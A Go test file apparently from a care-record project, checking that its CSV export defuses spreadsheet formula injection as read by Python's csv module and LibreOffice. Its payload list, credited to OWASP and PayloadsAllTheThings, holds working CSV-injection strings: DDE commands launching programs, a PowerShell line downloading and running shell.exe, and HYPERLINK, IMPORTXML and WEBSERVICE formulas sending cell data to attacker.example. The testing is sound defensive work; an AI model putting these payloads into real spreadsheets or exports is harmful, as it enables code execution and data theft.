package legible_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mycarerecord/mcr/legible"
	"github.com/mycarerecord/mcr/legible/legibletest"
)

// payloads are of OWASP's page "CSV Injection" and of what is published with it: PayloadsAllTheThings,
// "CSV Injection" (MIT).
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "\"=1+1", "'=1+1",
	`DDE ("cmd";"/C calc";"!A0")A0`, "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
	"=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
	"=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A", "=         C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
	`=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click")`, `=IMPORTXML(CONCAT("http://attacker.example?v=",A1),"//a")`,
	`=WEBSERVICE("http://attacker.example")`, "x,=1+1", "x;=1+1", "x\t=1+1", "x\"\n=1+1", "x\",=1+1,\"", "\x00=1+1", "\u200b=1+1",
}

// sheet is what a hostile client would leave in a file of the trail.
func sheet() (rows [][]string) {
	for _, text := range append(legibletest.Naughty(), payloads...) {
		rows = append(rows, []string{"row", text, "end"})
	}
	return rows
}

// Python's csv module reads each cell where it stands, and as Cell says.
func TestAttack163PythonReadsTheSameCells(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 is not here")
	}
	rows := sheet()
	path := filepath.Join(t.TempDir(), "trail.csv")
	if err := os.WriteFile(path, legible.Table([]string{"a", "b", "c"}, rows), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(python, "-c",
		`import csv, json, sys; json.dump(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline=""), strict=True)), sys.stdout)`, path).Output()
	var read [][]string
	if err == nil {
		err = json.Unmarshal(out, &read)
	}
	if err != nil || len(read) != len(rows)+1 {
		t.Fatalf("%v: %d rows of %d", err, len(read), len(rows)+1)
	}
	for i, row := range rows {
		if got := read[i+1]; len(got) != 3 || got[0] != "row" || got[1] != legible.Cell(row[1]) || got[2] != "end" {
			t.Errorf("%+q reads as %+q", row, got)
		}
	}
}

// LibreOffice, told to evaluate what looks like a formula, finds none; whichever sign it
// takes to divide cells. That it would find one is seen in the same run.
func TestAttack163LibreOfficeFindsNoFormula(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not here: apt-get install libreoffice-calc-nogui")
	}
	dir := t.TempDir()
	convert := func(name string, content []byte, filter string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path+".csv", content, 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(office, "--headless", "-env:UserInstallation=file://"+dir+"/profile", "--infilter=CSV:"+filter,
			"--convert-to", "fods", "--outdir", dir, path+".csv")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		sheet, err := os.ReadFile(path + ".fods")
		if err != nil {
			t.Fatal(err)
		}
		return string(sheet)
	}
	// Separators, quote, UTF-8, first row, columns, language, quoted fields are text,
	// special numbers, shown, formulas, blanks, sheet, evaluate.
	const then = ",34,76,1,,0,false,true,false,false,true,0,true"
	if !strings.Contains(convert("formula", []byte("\"=1+1\",x\n"), "44"+then), "table:formula") {
		t.Fatal("a formula is not seen as one")
	}
	for name, separators := range map[string]string{"comma": "44", "semicolon": "59", "all": "44/59/9/124/32"} {
		out := convert(name, legible.Table([]string{"a", "b", "c"}, sheet()), separators+then)
		if at := strings.Index(out, "table:formula"); at >= 0 {
			t.Errorf("%s: a formula: %s", name, out[at:min(len(out), at+200)])
		}
		if !strings.Contains(out, "cmd|") {
			t.Errorf("%s: the payloads are not in the sheet", name)
		}
	}
}
